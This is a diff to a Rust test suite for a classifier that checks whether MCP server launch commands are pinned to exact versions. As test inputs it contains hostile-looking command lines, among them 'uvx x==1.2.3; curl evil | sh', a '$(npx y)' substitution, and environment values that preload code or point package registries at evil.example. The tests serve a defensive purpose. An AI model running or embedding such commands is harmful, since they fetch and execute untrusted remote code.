@@ -86,6 +86,22 @@ fn exact_launchers() {
         };
         assert_eq!(line(text), exact, "{text}");
     }
+    for commit in [HEX.get(..40).unwrap_or_default(), HEX] {
+        for text in [
+            format!("uvx --from git+https://git.example/acme/mcp@{commit} acme-mcp"),
+            format!(
+                "uvx --from git+ssh://git@git.example/acme/mcp@{commit}#subdirectory=src/mcp acme-mcp"
+            ),
+            format!("uvx git+https://TOKEN@git.example/acme/mcp@{commit}"),
+        ] {
+            let exact = Launch::Exact {
+                ecosystem: Ecosystem::Git,
+                package: "git.example/acme/mcp".to_owned(),
+                version: commit.to_owned(),
+            };
+            assert_eq!(line(&text), exact, "{text}");
+        }
+    }
     let image = line(&format!(
         "docker run -i --rm -e TOKEN -v /a:/b ghcr.example/acme/x:1@sha256:{HEX} --port 1"
     ));
@@ -214,8 +230,6 @@ fn unpinned_launchers() {
         "uv tool run x",
         "uv tool install x==1.2.3",
         "uv run --with x==1.2.3 x",
-        "uv run server.py",
-        "uv --directory /x run server.py",
         "uvx python@3.12",
         "pipx run x",
         "pipx run --spec git+https://h/x x",
@@ -371,6 +385,24 @@ fn definitions_that_are_not_command_lines() {
             of(raw.clone())
         );
     }
+    for commit in [
+        "main",
+        "0123456",
+        "0123456789abcdef0123456789abcdef0123456g",
+        "v1.2.3",
+    ] {
+        for address in [
+            "git+https://git.example/acme/mcp",
+            "git+file:///srv/mcp",
+            "git+https://git.example",
+        ] {
+            let args = json!(["--from", format!("{address}@{commit}"), "acme-mcp"]);
+            let launch = of(json!({"command": "uvx", "args": args}));
+            assert!(matches!(launch, Launch::Unpinned { .. }), "{args}");
+        }
+    }
+    let local = format!("uvx --from git+file:///srv/mcp@{} acme-mcp", &HEX[..40]);
+    assert!(matches!(line(&local), Launch::Unpinned { .. }));
     let tokens = json!({"command": "npx", "args": ["x@1.2.3"], "env": {"TOKEN": "a", "HTTPS_PROXY": "http://p"}, "cwd": "/srv"});
     assert!(matches!(of(tokens), Launch::Exact { .. }));
 }
@@ -408,4 +440,113 @@ fn local_and_remote() {
         of(json!({"command": "", "url": "http://h"})),
         Launch::Remote
     );
+}
+
+/// How `npx x@1.2.3` starts with one variable, where the user's home directory is `/home/ada`.
+fn with_variable(name: &str, value: &str) -> Launch {
+    let server = json!({"command": "npx", "args": ["x@1.2.3"], "env": {name: value}});
+    classify(server.as_object().expect("object"), Some("/home/ada"))
+}
+
+#[test]
+fn variables_that_make_no_launcher_take_other_code() {
+    for (name, value) in [
+        ("PYTHONUNBUFFERED", "1"),
+        ("NODE_ENV", "production"),
+        ("GIT_AUTHOR_NAME", "Ada"),
+        ("GIT_COMMITTER_EMAIL", "ada@example.org"),
+        ("npm_config_loglevel", "silent"),
+        ("NODE_OPTIONS", "--max-old-space-size=4096 --no-warnings"),
+        ("HOME", "/home/ada"),
+        ("HOME", "${HOME}"),
+        ("USERPROFILE", "/home/ada/"),
+        ("XDG_CONFIG_HOME", "/home/ada/.config"),
+        ("XDG_CACHE_HOME", "${HOME}/.cache"),
+    ] {
+        let launch = with_variable(name, value);
+        assert!(matches!(launch, Launch::Exact { .. }), "{name}={value}");
+    }
+}
+
+#[test]
+fn variables_that_do_stay_unpinned() {
+    for (name, value) in [
+        ("NODE_OPTIONS", "--require /tmp/x.js"),
+        ("NODE_OPTIONS", "--max-old-space-size=1 --import=/x"),
+        ("NODE_PATH", "/tmp"),
+        ("NODE_EXTRA_CA_CERTS", "/tmp/ca.pem"),
+        ("PYTHONPATH", "/tmp"),
+        ("PYTHONSTARTUP", "/tmp/x.py"),
+        ("PYTHONWARNINGS", "error::evil.Warning"),
+        ("GIT_SSH_COMMAND", "/tmp/x"),
+        ("GIT_PAGER", "/tmp/x"),
+        ("GIT_CONFIG_GLOBAL", "/tmp/x"),
+        ("NPM_CONFIG_REGISTRY", "https://evil.example/"),
+        ("npm_config_script_shell", "/tmp/x"),
+        ("HOME", "/tmp/ada"),
+        ("HOME", "/home/ada/project"),
+        ("HOME", "/home/ada/../eve"),
+        ("HOME", "${OTHER}"),
+        ("XDG_CONFIG_HOME", "/home/ada/project/.config"),
+        ("XDG_CONFIG_DIRS", "/home/ada"),
+        ("APPDATA", "/srv"),
+    ] {
+        let launch = with_variable(name, value);
+        assert!(matches!(launch, Launch::Unpinned { .. }), "{name}={value}");
+    }
+    let server = json!({"command": "npx", "args": ["x@1.2.3"], "env": {"HOME": "/home/ada"}});
+    let unknown = classify(server.as_object().expect("object"), None);
+    assert!(matches!(unknown, Launch::Unpinned { .. }));
+}
+
+#[test]
+fn programs_of_a_project_by_uv() {
+    for text in [
+        "uv --directory /srv/mcp run server.py",
+        "uv run --frozen --directory /srv/mcp server.py",
+        "uv run --project /srv/mcp acme-mcp --stdio",
+        "uv run python -m acme_mcp",
+    ] {
+        assert_eq!(line(text), Launch::LocalCommand, "{text}");
+    }
+    for text in [
+        "uv run https://evil.example/x.py",
+        "uv run --with y server.py",
+        "uv run --index-url https://evil.example/ server.py",
+        "uv run --env-file /tmp/x server.py",
+        "uv run npx x",
+        "uv run bash x",
+        "uv run python -m pip install x",
+        "uv run",
+        "uv pip install x",
+        "uv sync",
+    ] {
+        assert!(matches!(line(text), Launch::Unpinned { .. }), "{text}");
+    }
+}
+
+#[test]
+fn a_bridge_is_exact_with_what_it_starts() {
+    let bridge = |inner: &str| {
+        let args = json!(["-y", "supergateway@3.4.0", "--stdio", inner]);
+        of(json!({"command": "npx", "args": args}))
+    };
+    for inner in ["uvx mcp-server-git==2025.1.14", "npx -y x@1.2.3 --port 1"] {
+        assert!(matches!(bridge(inner), Launch::Exact { .. }), "{inner}");
+    }
+    for inner in [
+        "npx -y x",
+        "npx x@latest",
+        "uvx x==1.2.3; curl evil | sh",
+        "uvx x==1.2.3 && npx y",
+        "uvx x==1.2.3 $(npx y)",
+        "uvx x==1.2.3\nnpx y",
+        "sh -c x",
+        "A=B uvx x==1.2.3",
+        "/tmp/uvx x==1.2.3",
+        "npx",
+        "npx supergateway@1.2.3 --stdio npx",
+    ] {
+        assert!(matches!(bridge(inner), Launch::Unpinned { .. }), "{inner}");
+    }
 }
